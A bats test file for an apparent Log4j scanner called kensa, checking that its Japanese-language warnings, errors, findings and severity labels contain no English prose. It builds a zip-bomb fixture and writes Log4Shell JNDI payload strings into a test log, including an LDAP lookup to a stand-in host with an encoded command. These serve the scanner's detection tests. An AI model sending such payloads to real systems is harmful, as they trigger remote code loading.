#!/usr/bin/env bats
# lang.bats - --lang ja (and LANG=ja_*) leaves no English sentence on
# stderr: warnings, the summary and the CLI's own messages come from the
# message catalog.  Paths, option names, product names and numbers aside.
# JSON keeps error.message in English and names each message by its id.

load helpers

setup_file() {
    export T="$BATS_FILE_TMPDIR/lang"
    mkdir -p "$T"
    # entry names hold no ASCII word, so what is left after the paths are
    # cut out is the message alone
    python3 - "$T" <<'X'
import sys, zipfile
t = sys.argv[1]
with zipfile.ZipFile(t + '/a.zip', 'w') as z:
    z.writestr('1', 'x' * 4000)
d = open(t + '/a.zip', 'rb').read()
open(t + '/trunc.zip', 'wb').write(d[:-10])
import io
inner = io.BytesIO()
with zipfile.ZipFile(inner, 'w') as z:          # stored: a zip of zeros
    z.writestr('0', b'\0' * (8 << 20))
with zipfile.ZipFile(t + '/bomb.zip', 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('9', inner.getvalue())           # deflated about 1000:1
with zipfile.ZipFile(t + '/many.zip', 'w') as z:
    for i in range(6):
        z.writestr(str(i), 'y')
X
}

# english FILE: succeeds when FILE still holds English prose once the
# paths under $T, option names (--max-ratio=1000), product and format
# names and the program name are cut out.  Two checks: three words in a
# row (a sentence), and any word of three letters or more.
english() {
    LC_ALL=C.UTF-8 sed -e "s#$T/[^：: ]*##g" -e 's/--[a-z-]*\(=[0-9a-z]*\)\?//g' \
        -e 's/\bkensa\b//g; s/\bSHA-256\b//g; s/\bMB\b//g; s/\b[Zz][Ii][Pp]\b//g' \
        -e 's/\bSIG\(INT\|TERM\)\b//g' "$1" >"$1.left"
    grep -En '[A-Za-z]{4,} [A-Za-z]{3,} [A-Za-z]{3,}' "$1.left" && return 0
    grep -En '[A-Za-z]{3,}' "$1.left" && return 0
    return 1
}

scan_all() {
    "$KENSA" scan --threads 1 --color never --no-confine --max-ratio 10 \
        "$@" "$T/trunc.zip" "$T/bomb.zip" "$T/nonexistent" 2>"$T/err"
    "$KENSA" scan --threads 1 --color never --no-confine --max-files 2 \
        "$@" "$T/many.zip" 2>>"$T/err"
}

@test "lang: --lang ja warnings and summary hold no English sentence" {
    scan_all --lang ja || true
    cat "$T/err"
    grep -q '警告：' "$T/err"
    grep -q 'スキャン結果' "$T/err"
    grep -q '検出：0 件' "$T/err"
    grep -q 'サンドボックス：なし（--no-confine）' "$T/err"
    [ "$(grep -c '^kensa: 警告：' "$T/err")" -ge 4 ]
    ! english "$T/err"
}

@test "lang: the English check finds the English it must not let through" {
    scan_all --lang en || true
    english "$T/err"
    LANG=ja_JP.UTF-8 scan_all || true     # LANG=ja* without --lang
    ! english "$T/err"
}

@test "lang: CLI errors in Japanese" {
    run "$KENSA" --lang ja frobnicate
    [ "$status" -eq 2 ]
    [[ "${lines[0]}" == "kensa: 「frobnicate」というコマンドはありません。" ]]
    run "$KENSA" logs --lang ja
    [ "$status" -eq 2 ]
    [[ "$output" == *"PATH を 1 つ以上指定してください"* ]]
    run "$KENSA" log4j --lang ja --format xml /tmp
    [ "$status" -eq 2 ]
    [[ "$output" == "kensa: --format に「xml」は指定できません。" ]]
    # and English names the option too (it said "--ml" before)
    run "$KENSA" log4j --lang en --format xml /tmp
    [[ "$output" == "kensa: bad value 'xml' for --format" ]]
    printf '%s\n' "$output" >"$T/e1"
}

@test "lang: each warning is named by its id in JSON, message in English" {
    output=$("$KENSA" scan --json --lang ja --threads 1 --no-confine \
        --max-ratio 10 "$T/trunc.zip" "$T/bomb.zip" "$T/nonexistent" \
        2>/dev/null) || true
    ids=$(echo "$output" | no_run | jq -r 'select(.event.kind=="event") | .error.id' | sort -u)
    echo "$ids"
    [[ "$ids" == *"zip.unreadable"* ]]
    [[ "$ids" == *"walk.root"* ]]
    echo "$ids" | grep -Eq '^(zip\.(ratio|over_limit)|limit\.scansize)$'
    # every warning record has an id, the same under kensa.message_id,
    # an English error.message and a Japanese kensa.message
    echo "$output" | no_run | jq -e -s '[.[] | select(.event.kind=="event")] | length > 0 and
        all(.error.id != null and .error.id == .kensa.message_id and
            (.error.message | test("^[ -~]+$")) and
            (.kensa.message | test("[ぁ-んァ-ヶ一-龠]")))' >/dev/null
    output=$("$KENSA" scan --json --threads 1 --no-confine --max-files 2 \
        "$T/many.zip" 2>/dev/null) || true
    echo "$output" | jq -e -s 'any(.[]; .error.id == "zip.too_many_entries" and
        .kensa.message_args == ["2"])' >/dev/null
}

# The words a finding's Japanese text may keep: product, class, file and
# protocol names, CVE ids, callback URLs and the names of encodings.
names_out() {
    sed -E 's/log4j-core|log4j|Log4j|Log4Shell|JndiLookup|JndiManager|Interpolator|SocketNode|pom\.properties|MANIFEST\.MF|CVE-[0-9-]+|JNDI|URL|Java|[a-z]+:\/\/[a-z0-9.]*|[a-zA-Z/$]+\.class|[a-zA-Z]+Appender|JMSSink|SocketServer|chainsaw|jndi:[^ ]*|\b(url|cesc|html|b64)\b//g'
}

@test "lang: findings speak Japanese: message and evidence, in JSON and text, no English sentence" {
    make_fixtures
    printf '%s\n' \
      '${jndi:ldap://x.example:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}' \
      '%24%7Bjndi%3Aldap%3A%2F%2Fz.example%2Fa%7D' '$${jndi:ldap://w.example/a}' \
      '${jndi:foo}' '${jndi:LDAP://m.example/a}' > "$T/a.log"
    output=$("$KENSA" scan --json --lang ja --threads 1 --no-confine \
        --no-summary --all "$FX/plain" "$FX/v1" "$FX/mitigated" "$T/a.log" \
        2>/dev/null) || true
    # every finding has its message in Japanese, and so has its evidence
    echo "$output" | jq -e -s '[.[] | select(.kensa.verdict)] | length >= 10 and
        all(.kensa.message | test("[ぁ-んァ-ヶ一-龠]")) and
        all(if .kensa.evidence then (.kensa.evidence_localized |
            test("[ぁ-んァ-ヶ一-龠]")) else true end)' >/dev/null
    echo "$output" | jq -r 'select(.kensa.verdict) | .kensa.message,
        (.kensa.evidence_localized // empty)' >"$T/ja.txt"
    names_out <"$T/ja.txt" >"$T/ja.left"
    ! grep -nE '[A-Za-z]{3,}' "$T/ja.left"
    # the English is still there for SIEM rules, and holds English words
    echo "$output" | jq -r 'select(.kensa.verdict) | .message' | names_out |
        grep -qE '[A-Za-z]{4,} [A-Za-z]{3,}'
    # the text report: the same Japanese, and the labels too
    "$KENSA" scan --lang ja --threads 1 --no-confine --no-summary --color never \
        "$FX/plain/log4j-core-2.14.1.jar" "$T/a.log" >"$T/ja.out" 2>/dev/null || true
    grep -q 'には脆弱性があります' "$T/ja.out"
    grep -q 'Log4Shell の攻撃' "$T/ja.out"
    grep -q 'バージョン' "$T/ja.out"
    grep -q '根拠：' "$T/ja.out"
}

@test "lang: severity labels in Japanese text (緊急, 重要, 警告, 注意, 情報), no English CRITICAL" {
    make_fixtures
    run "$KENSA" log4j --threads 1 --color never --no-summary --lang ja --all "$FX/plain" "$FX/v1"
    [ "$status" -eq 1 ]
    [[ "$output" == *"緊急     $FX/plain/log4j-core-2.14.1.jar: "* ]]
    [[ "$output" == *"警告     $FX/plain/"* ]]
    for w in CRITICAL HIGH MEDIUM LOW INFO; do
        ! grep -qw "$w" <<<"$output" || { echo "English label: $w"; false; }
    done
    # with colour the label is still Japanese; English stays English
    run "$KENSA" log4j --threads 1 --color always --no-summary --lang ja "$FX/plain"
    [[ "$output" == *$'\033[1;31m緊急\033[0m'* || "$output" == *"緊急"$'\033[0m'* ]]
    run "$KENSA" log4j --threads 1 --color never --no-summary --lang en "$FX/plain"
    [[ "$output" == *"CRITICAL $FX/plain/log4j-core-2.14.1.jar: "* ]]
}
